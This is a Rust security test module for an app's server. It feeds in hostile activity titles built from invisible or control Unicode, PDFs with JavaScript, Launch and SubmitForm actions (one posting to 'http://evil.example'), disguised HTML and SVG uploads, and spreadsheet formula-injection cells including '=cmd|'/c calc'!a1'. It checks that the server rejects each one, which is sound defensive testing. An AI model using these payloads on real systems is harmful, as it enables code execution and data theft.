//! Texts that show nothing or something else, cells that a spreadsheet would run, and documents with active content.

use crate::server::fresh_server;
use crate::table::{Attack, Form, Tally};
use domain::contract::PublishActivity;
use domain::members::import::write_table;
use tests::scenes::activities::TEAM;
use tests::scenes::archive::{test_photo, upload_file_call};
use tests::scenes::client::{Call, community_code};
use tests::scenes::people::DIRECTOR;

pub const ATTACKS: &[Attack] = &[
    Attack { group: "documents", name: "titles that are blank, turned round or broken", run: titles },
    Attack { group: "documents", name: "documents that act, also with names spelt otherwise", run: documents },
    Attack { group: "documents", name: "cells that a spreadsheet would run", run: cells },
    Attack { group: "documents", name: "control: an honest title, document and cell", run: honest },
];

/// Whether the server accepts an activity with this title.
fn taken(titles: &[String]) -> Vec<(u16, String)> {
    let server = fresh_server();
    let (director, draft) = (server.person(DIRECTOR), server.draft(server.team(TEAM), 5));
    let good = serde_json::to_value(&draft).expect("a draft is JSON");
    let publish = |title: &String| {
        let mut body = good.clone();
        body["title"] = title.as_str().into();
        let call = Call::of::<PublishActivity>(&director, &(community_code(),), &(), &draft);
        let answer = server.send(&Call { body: Some(body.to_string().into_bytes()), ..call });
        (answer.status, answer.text())
    };
    titles.iter().map(publish).collect()
}

fn titles(_: Form) -> Tally {
    let mut tally = Tally::default();
    let titles: Vec<String> = [
        "\u{3164}\u{3164}\u{3164}",
        "\u{115F}\u{1160}\u{115F}",
        "\u{2800}\u{2800}\u{2800}",
        "清理\u{061C}楼道",
        "清理\u{180E}楼道",
        "清理\u{2028}楼道",
        "清理\u{2029}楼道",
        "清理\u{FFF9}楼道",
        "清理\u{FFFC}楼道",
        "清理\u{FFFF}楼道",
        "清理\n楼道",
        "清理\r楼道",
        "清理\u{202E}楼道",
        "清理\u{200B}楼道",
        "清理\u{0}楼道",
        "清理\u{E0041}楼道",
        "\u{3000}\u{3000}\u{3000}",
        format!("清{}", "\u{0301}".repeat(55)).as_str(),
    ]
    .map(str::to_owned)
    .to_vec();
    for (title, (status, text)) in titles.iter().zip(taken(&titles)) {
        tally.count(matches!(status, 400 | 422), || format!("{}: {status} {text}", title.escape_unicode()));
    }
    tally
}

/// A small document with this entry in its catalogue.
fn document(entry: &str) -> Vec<u8> {
    format!(
        "%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R{entry}>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n\
         xref\n0 3\ntrailer\n<</Size 3/Root 1 0 R>>\nstartxref\n105\n%%EOF"
    )
    .into_bytes()
}

fn bring(entries: &[&str]) -> Vec<(u16, String)> {
    let server = fresh_server();
    let who = server.person(DIRECTOR);
    let send = |entry: &&str| {
        let answer = server.send(&upload_file_call(&who, "application/pdf", document(entry)));
        (answer.status, answer.text())
    };
    entries.iter().map(send).collect()
}

fn documents(_: Form) -> Tally {
    let entries = [
        "/OpenAction<</S/JavaScript/JS(x)>>",
        "/OpenAction<</S/J#61vaScript/JS(x)>>",
        "/OpenAction<</S/#4a#61#76#61Script/JS(x)>>",
        "/A<</S/Launch/F(x)>>",
        "/A<</S/L#61unch/F(x)>>",
        "/A<</S/SubmitForm/F(http://evil.example)>>",
        "/A<</S/GoToR/F(x.pdf)>>",
        "/A<</S/ImportData/F(x)>>",
        "/AcroForm<</XFA 3 0 R>>",
        "/Names<</EmbeddedFiles 3 0 R>>",
        "/Names<</Embedded#46iles 3 0 R>>",
        "/Encrypt 3 0 R",
        "/A<</S/RichMedia>>",
    ];
    let mut tally = Tally::default();
    for (entry, (status, text)) in entries.iter().zip(bring(&entries)) {
        tally.count(matches!(status, 415 | 422), || format!("{entry}: {status} {text}"));
    }
    // A file that claims to be a photo and is none, and a photo with a page behind it: served as a photo or not at all.
    let server = fresh_server();
    let who = server.person(DIRECTOR);
    for (kind, bytes) in [
        ("image/jpeg", b"<!doctype html><script>1</script>".to_vec()),
        ("text/html", test_photo(2)),
        ("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='1'/>".to_vec()),
        ("image/png", test_photo(2)),
    ] {
        let answer = server.send(&upload_file_call(&who, kind, bytes));
        tally.count(matches!(answer.status, 415 | 422), || format!("{kind}: {} {}", answer.status, answer.text()));
    }
    tally
}

/// As the app writes a table for spreadsheet programs.
fn harmless(cell: &str) -> bool {
    let text = write_table(&[vec![cell.to_owned()]]);
    let written = text.trim_start_matches('\u{FEFF}');
    // The opening quote is not part of the content of a cell.
    let written = written.strip_prefix('"').unwrap_or(written);
    !written.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'])
}

fn cells(_: Form) -> Tally {
    let mut tally = Tally::default();
    for cell in
        ["=1+1", "+1", "-1", "@sum(a1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠sum", "=cmd|'/c calc'!a1", "\"=1"]
    {
        tally.count(harmless(cell), || format!("{cell:?}"));
    }
    tally
}

/// Input that must be accepted, before the same checks.
fn honest(_: Form) -> Tally {
    let mut tally = Tally::default();
    let (status, _) = taken(&["清理楼道".to_owned()]).remove(0);
    tally.count(status != 200, String::new);
    let (status, _) = bring(&[""]).remove(0);
    tally.count(status != 200, String::new);
    tally.count(!harmless("张三"), String::new);
    tally.must_breach("an honest text")
}
